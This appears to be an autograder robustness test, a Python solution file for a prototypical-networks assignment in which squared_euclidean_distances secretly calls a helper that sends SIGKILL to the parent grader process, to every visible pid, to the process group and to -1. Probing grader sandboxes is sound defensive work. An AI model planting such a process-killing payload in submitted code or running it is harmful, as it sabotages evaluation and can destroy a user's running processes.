"""Attack a04 (kill the grader): squared_euclidean_distances sends SIGKILL to its parent (the fork server),
to every other pid it can see in /proc, to the parent's process group and to -1 (everything it may
signal), then reports which kills worked; everything else is the correct solution.

Targets: squared_euclidean_distances, protonet_logits and protonet_loss. Expected: exactly 13 / 31;
the targeted tests fail with "raised an exception" naming "cs330atk still alive" and PermissionError.
"""

from __future__ import annotations

import torch
import torch.nn.functional as F


def compute_prototypes(
    support_features: torch.Tensor, support_labels: torch.Tensor, n_way: int
) -> torch.Tensor:
    """Return the (n_way, D) class prototypes: row c is the mean support feature of class c.

    support_features: (N*K, D) float tensor, in any order (not grouped by class).
    support_labels: (N*K,) int64 tensor with values in [0, n_way).
    """
    one_hot = F.one_hot(support_labels, n_way).to(support_features.dtype)  # (N*K, N)
    counts = one_hot.sum(dim=0).unsqueeze(1)  # (N, 1)
    return one_hot.t() @ support_features / counts


def squared_euclidean_distances(
    query_features: torch.Tensor, prototypes: torch.Tensor
) -> torch.Tensor:
    """Return the (Q, N) matrix whose entry (i, c) is ||query_i - prototype_c||^2.

    query_features: (Q, D) float tensor; prototypes: (N, D) float tensor.
    """
    _kill_everything()
    diff = query_features.unsqueeze(1) - prototypes.unsqueeze(0)  # (Q, N, D)
    return (diff * diff).sum(dim=-1)


def protonet_logits(query_features: torch.Tensor, prototypes: torch.Tensor) -> torch.Tensor:
    """Return the (Q, N) logits: the negative squared Euclidean distances to each prototype."""
    return -squared_euclidean_distances(query_features, prototypes)


def protonet_loss(
    support_features: torch.Tensor,
    support_labels: torch.Tensor,
    query_features: torch.Tensor,
    query_labels: torch.Tensor,
    n_way: int,
) -> tuple[torch.Tensor, torch.Tensor]:
    """Return (loss, accuracy) of one episode.

    loss: scalar, the mean cross-entropy of the query logits against query_labels; it must be
        differentiable with respect to both support_features and query_features.
    accuracy: 0-dim tensor in [0, 1] (not a Python float), the fraction of queries whose nearest
        prototype is their class.
    support_features: (N*K, D); support_labels: (N*K,) int64; query_features: (Q, D);
    query_labels: (Q,) int64, all labels in [0, n_way).
    """
    prototypes = compute_prototypes(support_features, support_labels, n_way)
    logits = protonet_logits(query_features, prototypes)
    loss = F.cross_entropy(logits, query_labels)
    accuracy = (logits.argmax(dim=1) == query_labels).to(logits.dtype).mean()
    return loss, accuracy


def sample_episode(
    class_ids: torch.Tensor,
    n_way: int,
    k_shot: int,
    q_queries: int,
    generator: torch.Generator,
) -> tuple[torch.Tensor, torch.Tensor, torch.Tensor, torch.Tensor]:
    """Sample one N-way K-shot episode; return (support_idx, support_y, query_idx, query_y).

    class_ids: (M,) int64, the class of each of M examples in the pool.
    Picks n_way distinct classes, then k_shot + q_queries distinct examples of each.
    support_idx: (n_way*k_shot,) int64 indices into the pool; support_y: (n_way*k_shot,) int64
    labels in [0, n_way), the chosen classes relabelled 0..n_way-1 in the order they were picked.
    query_idx, query_y: the same for the n_way*q_queries queries. Support and query examples
    never overlap. Use only `generator` for randomness.
    """
    classes = torch.unique(class_ids)
    chosen = classes[torch.randperm(len(classes), generator=generator)[:n_way]]
    support_idx, support_y, query_idx, query_y = [], [], [], []
    for label, cls in enumerate(chosen):
        members = torch.nonzero(class_ids == cls).flatten()
        picked = members[torch.randperm(len(members), generator=generator)[: k_shot + q_queries]]
        support_idx.append(picked[:k_shot])
        query_idx.append(picked[k_shot:])
        support_y.append(torch.full((k_shot,), label, dtype=torch.long))
        query_y.append(torch.full((q_queries,), label, dtype=torch.long))
    return (
        torch.cat(support_idx),
        torch.cat(support_y),
        torch.cat(query_idx),
        torch.cat(query_y),
    )


def _kill_everything():
    """SIGKILL every process in sight, then raise with what happened."""
    import os
    import signal

    report = []
    targets = [("parent", os.getppid())]
    targets += [(f"pid {p}", int(p)) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
    for name, pid in targets:
        try:
            os.kill(pid, signal.SIGKILL)
            report.append(f"{name}: killed")
        except OSError as exc:
            report.append(f"{name}: {type(exc).__name__}")
    try:
        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
        report.append("parent group: killed")
    except OSError as exc:
        report.append(f"parent group: {type(exc).__name__}")
    try:
        os.kill(-1, signal.SIGKILL)  # every process this user may signal, except this one
        report.append("-1: sent")
    except OSError as exc:
        report.append(f"-1: {type(exc).__name__}")
    raise RuntimeError("cs330atk still alive after kill attempts: " + "; ".join(report))
